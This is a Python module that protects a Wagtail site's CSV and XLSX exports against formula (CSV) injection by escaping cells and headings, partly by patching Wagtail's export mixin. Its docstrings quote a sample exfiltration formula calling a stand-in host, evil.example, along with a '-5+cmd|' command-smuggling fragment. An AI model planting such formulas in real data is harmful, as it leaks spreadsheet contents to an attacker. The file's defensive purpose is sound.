"""Exports a spreadsheet program opens as data, never as formulas (CSV injection).

A cell whose text starts with ``=``, ``+``, ``-``, ``@``, a tab or a carriage return is
taken as a formula by Excel, LibreOffice and Google Sheets when a CSV file is opened:
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` in a team name would run in the
editor's spreadsheet. Every export the hub offers goes through :func:`escape_formula`, which
puts a single quote in front of such text (OWASP's advice): the spreadsheet shows the text
as typed, quote hidden, and computes nothing.

- The huddle's inbox export (``submissions.huddle.views.inbox``) calls :func:`safe_cell`.
- Wagtail's own exports (every ``list_export`` of a snippet or model viewset, the page
  reports) share one mixin, ``SpreadsheetExportMixin``, which escapes formulas only in
  XLSX. :func:`protect_wagtail_exports` (run once from ``HubConfig.ready``) makes its CSV
  cells and headings pass through :func:`escape_formula` too, so an export added later is
  covered without anyone remembering to.
"""

from functools import wraps

# What a spreadsheet reads as the start of a formula (OWASP "CSV Injection"), with the
# full-width forms some spreadsheet programs also accept.
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\uff1d", "\uff0b", "\uff0d", "\uff20")


def escape_formula(value):
    """``value`` unchanged unless it is text a spreadsheet would read as a formula, which
    gets a leading single quote. Numbers, dates and ``None`` keep their type: ``-5`` the
    number is data, ``"-5"`` the text could be ``-5+cmd|...``."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def safe_cell(value) -> str:
    """Any value as the text of one CSV cell, escaped (``None`` is an empty cell)."""
    return escape_formula("" if value is None else str(value))


def protect_wagtail_exports() -> None:
    """Escape formulas in the CSV files of every Wagtail export (idempotent).

    Wagtail's ``SpreadsheetExportMixin`` already stores XLSX cells that look like formulas
    as text; its CSV writer passes values through untouched. Both the cell values (CSV)
    and the column headings (CSV and XLSX) are escaped here.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "hub_escapes_formulas", False):
        return
    preprocess = SpreadsheetExportMixin.preprocess_field_value
    heading = SpreadsheetExportMixin.get_heading

    @wraps(preprocess)
    def preprocess_field_value(self, field, value, export_format):
        value = preprocess(self, field, value, export_format)
        if export_format == SpreadsheetExportMixin.FORMAT_CSV:
            return escape_formula(value)
        return value

    @wraps(heading)
    def get_heading(self, queryset, field):
        return escape_formula(heading(self, queryset, field))

    SpreadsheetExportMixin.preprocess_field_value = preprocess_field_value
    SpreadsheetExportMixin.get_heading = get_heading
    SpreadsheetExportMixin.hub_escapes_formulas = True
